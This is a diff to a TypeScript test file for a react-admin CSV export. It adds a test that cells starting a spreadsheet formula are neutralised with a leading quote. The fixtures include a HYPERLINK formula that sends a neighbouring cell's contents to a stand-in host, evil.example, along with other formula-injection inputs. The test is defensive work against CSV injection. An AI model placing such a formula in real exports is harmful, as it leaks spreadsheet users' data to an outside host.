@@ -1,6 +1,6 @@
 import type { DataProvider } from 'react-admin';
 import { describe, expect, it } from 'vitest';
-import { csvValue, toCsv } from './csv';
+import { csvValue, neutralised, toCsv } from './csv';
 import { everyRecord } from './export';
 import { recordName } from './names';
 import { formatJst, fromJstInput, toJstInput } from './time';
@@ -52,6 +52,29 @@ describe('CSV export', () => {
       '',
     ]);
     expect(csv).not.toContain('hidden');
+  });
+
+  it('never writes a cell a spreadsheet would run as a formula', () => {
+    const attack = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")';
+    const csv = toCsv(
+      [
+        { id: 1, name: attack, a: '+1+1', b: '-2+3', c: '@SUM(A1)', d: '\t=1', e: '\r=1', f: '  =1+1' },
+        { id: 2, name: '＝1+1', a: '＋1', b: '－1', c: '＠A1', d: '\u3000=1', e: -5, f: 'ok = fine' },
+      ],
+      ['id', 'name', 'a', 'b', 'c', 'd', 'e', 'f'].map((source) => ({ source, label: source })),
+    );
+    const rows = csv.slice(1).split('\r\n');
+    expect(rows[1]).toBe(
+      `1,"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click"")",'+1+1,'-2+3,'@SUM(A1),'\t=1,"'\r=1",'  =1+1`,
+    );
+    expect(rows[2]).toBe(`2,'＝1+1,'＋1,'－1,'＠A1,'\u3000=1,-5,ok = fine`);
+    for (const row of rows.slice(1, 3)) {
+      for (const field of row.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/)) {
+        const text = field.startsWith('"') ? field.slice(1, -1).replace(/""/g, '"') : field;
+        expect(/^[\s\u3000]*[=+@＝＋－＠\t\r-]/.test(text) && text !== '-5', `${text} starts a formula`).toBe(false);
+      }
+    }
+    expect(neutralised('plain')).toBe('plain');
   });
 
   it('writes objects as JSON and booleans as words', () => {
